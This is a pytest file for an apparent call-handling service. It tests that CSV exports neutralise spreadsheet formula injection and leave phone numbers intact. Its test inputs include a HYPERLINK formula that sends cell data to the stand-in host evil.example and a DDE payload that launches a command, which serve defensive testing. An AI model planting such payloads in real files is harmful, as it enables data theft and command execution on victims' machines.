"""What callers, receivers and colleagues wrote comes into a spreadsheet as text, and phone numbers as they are."""

import csv
import io
import time
from collections.abc import Callable

import pytest

from pbxhub.account.exported_text import harmless
from pbxhub.store.delivery_rows import Delivery
from pbxhub.store.history import Call, StageEvent
from pbxhub.store.ids import new_id
from pbxhub.store.session import Database
from pbxhub.store.webhooks import Webhook
from pbxhub.webhooks.spec import RequestSpec, WebhookSpec
from pbxhub.wsgi.current import now
from tests.support.people import Browser, People

RUN = '=HYPERLINK("https://evil.example/?"&A1)'


@pytest.mark.parametrize(
    "text",
    [RUN, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "|x", "%x", "\t=1", "\r=1", "\n=1", "  =1", "\ufeff=1", "\x01=1",
     "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(A1)", "+380441234567+1", "+", "+38 044"],
)  # fmt: skip
def test_a_formula_becomes_a_text(text: str) -> None:
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize("separator", [";", ",", "\t", "\n", '"', "\r\n"])
def test_a_formula_is_a_text_also_where_another_separator_is_expected(separator: str) -> None:
    assert f"a{separator}=" not in harmless(f"a{separator}=1+1").replace("\r\n", "\n")


@pytest.mark.parametrize(
    "value", ["+380441234567", "380441234567", "ok", "", "a=b", "a-b", "x+y@example.com", 503, None]
)
def test_what_is_no_formula_stays_as_it_is(value: object) -> None:
    assert harmless(value) == value


def test_a_cell_of_nothing_but_blanks_takes_no_time() -> None:
    began = time.thread_time()
    harmless("\t" * 1_000_000)
    assert time.thread_time() - began < 2  # by the square of it: hours


def test_an_export_has_no_formula_in_any_column(
    database: Database, people: People, signed_in: Callable[[str], Browser]
) -> None:
    with database.write() as session:
        own, moment = {"project_id": people.project}, now()
        hook = Webhook(**own, name=RUN, stage="incoming.after", created_on=moment,
                       spec=WebhookSpec(RequestSpec(url="https://example.com/")))  # fmt: skip
        call = Call(id=new_id(), **own, linkedid="1.1", direction="incoming", caller="+380441234567", dst=RUN,
                    started_on=moment)  # fmt: skip
        session.add_all([hook, call])
        session.flush()
        event = StageEvent(id=new_id(), **own, call_id=call.id, stage="incoming.after", key="", ordinal=1,
                           created_on=moment, data={})  # fmt: skip
        session.add(event)
        session.flush()
        session.add(Delivery(id=new_id(), **own, webhook_id=hook.id, webhook_revision=1, stage_event_id=event.id,
                             call_id=call.id, state="failed", lane=1, due_at=moment, method="POST", headers=[],
                             url="https://example.com/", body=b"", message=f"a;{RUN}", created_on=moment))  # fmt: skip
    answer = signed_in("owner").get(f"/projects/{people.project}/export/deliveries.csv")
    (row,) = csv.DictReader(io.StringIO(answer.get_data(as_text=True).removeprefix("\ufeff")))
    assert (row["webhook"], row["called"], row["caller"]) == (f"'{RUN}", f"'{RUN}", "+380441234567")
    assert row["message"] == f"a;'{RUN}"
